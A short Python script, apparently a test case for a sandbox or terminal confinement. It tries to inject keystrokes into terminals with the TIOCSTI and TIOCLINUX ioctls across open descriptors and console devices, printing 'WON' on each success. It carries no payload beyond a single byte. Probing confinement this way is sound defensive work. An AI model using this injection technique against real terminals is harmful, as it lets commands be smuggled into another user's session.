# /// attack
# says = "ran to its end"
# ///
"""Push keys into a terminal by TIOCSTI and TIOCLINUX, through every descriptor and device."""

import fcntl
import os

for name in ("/dev/tty", "/dev/console", "/dev/pts/0", "/dev/tty1"):
    try:
        os.open(name, os.O_RDWR)
        print("WON: opened", name)
    except OSError:
        pass
for descriptor in range(64):
    for request in (0x5412, 0x541C, 0x540E):
        try:
            fcntl.ioctl(descriptor, request, b"x")
            print("WON: ioctl", hex(request), descriptor)
        except OSError:
            pass
raise RuntimeError("the attack ran to its end")
